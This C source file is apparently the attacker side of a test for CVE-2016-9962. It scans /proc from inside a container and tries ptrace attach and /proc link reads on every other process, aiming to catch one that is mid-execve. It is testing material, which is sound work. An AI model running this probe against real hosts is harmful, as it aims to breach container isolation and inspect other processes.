/* An attacker for the CVE-2016-9962 test, run as root inside a container (in its user
 * namespace, with CAP_SYS_PTRACE there): for SECONDS, watch /proc for processes other than
 * itself and try, on each, ptrace(PTRACE_ATTACH) and reading /proc/PID/{cwd,root,exe,fd}.
 *   snoop SECONDS LOG
 * LOG gets "seen PID COMM" once per process and "got PID WHAT EXE" for every access that
 * worked, EXE being what /proc/PID/exe named right after it: a process caught in execve has
 * its new image (and is dumpable again) while its comm still shows the old name. */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char seen[65536];

static void comm_of(int pid, char *out, size_t n) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    FILE *f = fopen(path, "r");
    out[0] = 0;
    if (f) {
        if (fgets(out, (int)n, f)) out[strcspn(out, "\n")] = 0;
        fclose(f);
    }
}

static void got(FILE *log, int pid, const char *what) {
    char path[64], exe[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, exe, sizeof exe - 1);
    exe[n < 0 ? 0 : n] = 0;
    fprintf(log, "got %d %s %s\n", pid, what, n < 0 ? "?" : exe);
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    double seconds = atof(argv[1]);
    FILE *log = fopen(argv[2], "w");
    if (!log) return 2;
    setvbuf(log, NULL, _IOLBF, 0);
    int self = getpid();
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 > seconds) break;
        DIR *d = opendir("/proc");
        if (!d) return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= 65536) continue;
            char comm[64];
            comm_of(pid, comm, sizeof comm);
            if (!seen[pid]) {
                seen[pid] = 1;
                fprintf(log, "seen %d %s\n", pid, comm);
            }
            if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
                got(log, pid, "ptrace");
                waitpid(pid, NULL, __WALL);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            const char *links[] = {"cwd", "root", "exe"};
            for (int i = 0; i < 3; i++) {
                char path[64], target[256];
                snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
                if (readlink(path, target, sizeof target) >= 0) got(log, pid, links[i]);
            }
            char fdpath[64];
            snprintf(fdpath, sizeof fdpath, "/proc/%d/fd", pid);
            DIR *fds = opendir(fdpath);
            if (fds) {
                got(log, pid, "fd");
                closedir(fds);
            }
        }
        closedir(d);
    }
    fprintf(log, "done\n");
    return 0;
}
